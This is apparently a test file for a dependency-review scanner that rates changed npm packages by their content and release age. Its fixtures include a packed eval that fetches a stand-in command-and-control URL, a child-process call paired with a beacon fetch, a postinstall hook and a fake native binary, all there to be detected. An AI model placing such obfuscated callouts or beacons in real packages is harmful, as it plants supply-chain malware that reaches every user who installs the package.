import { describe, expect, it } from 'vitest';
import type { ClosurePackageEvidence, ClosureReview, ReviewedChange } from '../../../src/core/closure/evidence.js';
import { closureFindings } from '../../../src/core/closure/findings.js';
import { judgeClosurePackage } from '../../../src/core/closure/judge.js';
import { diffLocks } from '../../../src/core/package/lock-diff.js';
import type { LockFile } from '../../../src/core/workspace/lock-file.js';
import { version, type Files } from '../package-diff/support.js';

const NOW = new Date('2026-12-01T00:00:00Z');
const DAYS_AGO = (n: number) => new Date(NOW.getTime() - n * 86_400_000).toISOString();
const INDEX = `export function pad(s, n) {\n  return String(s).padStart(n);\n}\n`;

function lib(v: string, files: Files = {}, pj: Record<string, unknown> = {}): Files {
  return {
    'package.json': JSON.stringify({ name: 'left-lib', version: v, main: 'index.js', license: 'MIT', ...pj }),
    'index.js': INDEX,
    ...files,
  };
}

const node = (v: string) => ({ name: 'left-lib', version: v, integrity: `sha512-${v}` });
const changed: ReviewedChange = {
  kind: 'version-changed',
  path: 'node_modules/left-lib',
  before: node('1.2.3'),
  after: node('1.2.4'),
};
const added: ReviewedChange = { kind: 'added', path: 'node_modules/left-lib', after: node('1.2.4') };

/** Evidence of left-lib 1.2.3 -> 1.2.4 (or added at 1.2.4) published `age` days before NOW. */
function evidence(
  next: Files,
  age: number | null,
  change: ReviewedChange = changed,
  extra: Partial<ClosurePackageEvidence> = {},
): ClosurePackageEvidence {
  return {
    change,
    after: version(next),
    ...(change.kind === 'version-changed' ? { before: version(lib('1.2.3')) } : {}),
    packument: { versions: {}, time: age === null ? {} : { '1.2.4': DAYS_AGO(age) } },
    ...extra,
  };
}

/** The one closure finding for the judged change, as the server's report carries it. */
function judged(e: ClosurePackageEvidence) {
  const j = judgeClosurePackage(e, NOW);
  const review: ClosureReview = { judgements: [j], capped: [], cap: 200 };
  const [f, ...rest] = closureFindings('srv@2.0.0', [e.change], review);
  expect(rest).toEqual([]);
  return f!;
}

const POSTINSTALL = { scripts: { postinstall: 'node setup.js' } };
const PACKED = `eval(function(p,a,c,k,e,d){e=function(c){return c};return p}('0 1',2,2,'x'.split('|'),0,{}));\nfetch('https://c2.evil-cdn.net/x');\n`;
const CALLOUT = `import { execSync } from 'node:child_process';\nexport const sync = () => execSync('node -v');\nexport const beacon = () => fetch('https://collect.left-metrics.net/t');\n`;

describe('a changed closure package, judged by content and freshness', () => {
  it.each([
    ['a clean patch out for a month: info', lib('1.2.4', { 'index.js': `${INDEX}// faster\n` }), 30, 'info'],
    ['a clean patch out for a day: low', lib('1.2.4', { 'index.js': `${INDEX}// faster\n` }), 1, 'low'],
    ['a clean patch out for four days: info', lib('1.2.4', { 'index.js': `${INDEX}// faster\n` }), 4, 'info'],
    ['a clean patch of unknown age: low', lib('1.2.4'), null, 'low'],
  ] as const)('%s', (_, next, age, severity) => {
    const f = judged(evidence(next, age));
    expect([f.code, f.severity]).toEqual(['package/closure-version-changed', severity]);
    expect(f.location).toEqual({ kind: 'dependency', name: 'node_modules/left-lib' });
    expect(f.evidence).toMatchObject({ package: 'left-lib 1.2.3 -> 1.2.4', reviewed: true, against: 'previous' });
  });

  it.each([
    ['a postinstall script', lib('1.2.4', {}, POSTINSTALL), 'package/install-script-added'],
    ['packed eval calling out', lib('1.2.4', { 'index.js': `${INDEX}${PACKED}` }), 'package/obfuscated-code-added'],
    [
      'a native binary',
      lib('1.2.4', { 'lib/x.node': Buffer.from('\x7fELF..........') }),
      'package/native-binary-added',
    ],
    [
      'a new endpoint with a child process',
      lib('1.2.4', { 'index.js': `${INDEX}${CALLOUT}` }),
      'package/dangerous-api-added',
    ],
  ])('a day-old patch that adds %s is critical, a month-old one high', (_, next, signal) => {
    const fresh = judged(evidence(next, 1));
    expect([fresh.code, fresh.severity]).toEqual(['package/closure-dependency-hostile', 'critical']);
    const signals = fresh.evidence?.['signals'] as Array<{ code: string }>;
    expect(signals.map((s) => s.code)).toContain(signal);
    expect(fresh.message).toContain('left-lib 1.2.3 -> 1.2.4 (node_modules/left-lib, published 1 days ago)');
    expect(judged(evidence(next, 40)).severity).toBe('high');
    // a release whose age the registry does not say is not taken for a settled one
    expect(judged(evidence(next, null)).severity).toBe('critical');
  });

  it('a new endpoint alone is notable: medium while recent, low after a week', () => {
    const next = lib('1.2.4', { 'index.js': `${INDEX}export const docs = 'https://docs.left-lib.dev/pad';\n` });
    const f = judged(evidence(next, 2));
    expect([f.code, f.severity]).toEqual(['package/closure-dependency-notable', 'medium']);
    expect((f.evidence?.['signals'] as Array<{ code: string }>).map((s) => s.code)).toEqual([
      'package/new-network-endpoint',
    ]);
    expect(judged(evidence(next, 8)).severity).toBe('low');
  });

  it('what only tests, examples and TypeScript sources hold makes a change notable at most', () => {
    const tests = lib('1.2.4', {
      'src/tests/cyclic.test.ts': `import vm from 'node:vm';\nconst host = 'http://192.0.2.1/';\nvm.runInNewContext(host);\n`,
      'test/helpers.js': `const ok = 'a@b.co';\n`,
    });
    const clean = judged(evidence(tests, 30));
    expect([clean.code, clean.severity]).toEqual(['package/closure-version-changed', 'info']);
    const packed = lib('1.2.4', { 'examples/demo.js': PACKED });
    const f = judged(evidence(packed, 1));
    expect([f.code, f.severity]).toEqual(['package/closure-dependency-notable', 'medium']);
    // the same code where it runs is hostile
    expect(judged(evidence(lib('1.2.4', { 'lib/demo.js': PACKED }), 1)).code).toBe(
      'package/closure-dependency-hostile',
    );
  });

  it('a new maintainer on the changed package is notable', () => {
    const packument = {
      versions: {
        '1.2.3': { maintainers: [{ name: 'alice' }] },
        '1.2.4': { maintainers: [{ name: 'alice' }, { name: 'mallory' }] },
      },
      time: { '1.2.4': DAYS_AGO(30) },
    };
    const f = judged(evidence(lib('1.2.4'), 30, changed, { packument }));
    expect([f.code, f.severity]).toEqual(['package/closure-dependency-notable', 'low']);
    expect((f.evidence?.['signals'] as Array<{ message: string }>)[0]?.message).toContain('+mallory');
  });

  it('a package new to the closure is reviewed on its own: using an API is no news, a callout in one file is', () => {
    const split = lib('1.2.4', {
      'index.js': `${INDEX}import { execSync } from 'node:child_process';\nexport const v = () => execSync('node -v');\n`,
      'docs.js': `export const home = 'https://docs.left-lib.dev/';\n`,
    });
    const clean = judged(evidence(split, 30, added));
    expect([clean.code, clean.severity]).toEqual(['package/closure-package-added', 'info']);
    expect(clean.evidence).toMatchObject({ package: 'left-lib@1.2.4', against: 'nothing' });
    const callout = judged(evidence(lib('1.2.4', { 'index.js': `${INDEX}${CALLOUT}` }), 30, added));
    expect([callout.code, callout.severity]).toEqual(['package/closure-dependency-hostile', 'high']);
    const script = judged(evidence(lib('1.2.4', {}, POSTINSTALL), 1, added));
    expect([script.code, script.severity]).toEqual(['package/closure-dependency-hostile', 'critical']);
  });

  it('other bytes than the lock records are critical; content that could not be read stays medium', () => {
    const refused = judged({ change: changed, bytesRefused: true });
    expect([refused.code, refused.severity]).toEqual(['package/closure-bytes-refused', 'critical']);
    const missing = judged({ change: changed, missing: 'left-lib@1.2.4 is not in the registry' });
    expect([missing.code, missing.severity]).toEqual(['package/closure-version-changed', 'medium']);
    expect(missing.evidence).toMatchObject({ reviewed: false, reason: 'left-lib@1.2.4 is not in the registry' });
  });
});

describe('closure findings over a whole change', () => {
  const lock = (packages: LockFile['packages']): LockFile => ({
    formatVersion: 1,
    root: { name: 'srv', version: '1.0.0' },
    packages,
  });
  const before = lock({
    'node_modules/a': { name: 'a', version: '1.0.0' },
    'node_modules/b': { name: 'b', version: '1.0.0' },
  });
  const after = lock({
    'node_modules/a': { name: 'a', version: '1.0.1' },
    'node_modules/b': { name: 'b', version: '1.0.1' },
  });

  it('without a review every added or changed package is medium, as before', () => {
    expect(closureFindings('srv@1.0.0', diffLocks(before, after)).map((f) => [f.code, f.severity])).toEqual([
      ['package/closure-version-changed', 'medium'],
      ['package/closure-version-changed', 'medium'],
    ]);
  });

  it('packages over the cap stay medium, with one finding saying how many were not reviewed', () => {
    const review: ClosureReview = {
      judgements: [{ path: 'node_modules/a', outcome: 'clean', severity: 'info', signals: [], against: 'previous' }],
      capped: ['node_modules/b'],
      cap: 1,
    };
    const findings = closureFindings('srv@1.0.0', diffLocks(before, after), review);
    expect(findings.map((f) => [f.code, f.severity, f.location?.name])).toEqual([
      ['package/closure-version-changed', 'info', 'node_modules/a'],
      ['package/closure-version-changed', 'medium', 'node_modules/b'],
      ['package/closure-review-capped', 'medium', 'node_modules/b'],
    ]);
    expect(findings[2]?.evidence).toMatchObject({ cap: 1, notReviewed: 1, paths: ['node_modules/b'] });
  });
});
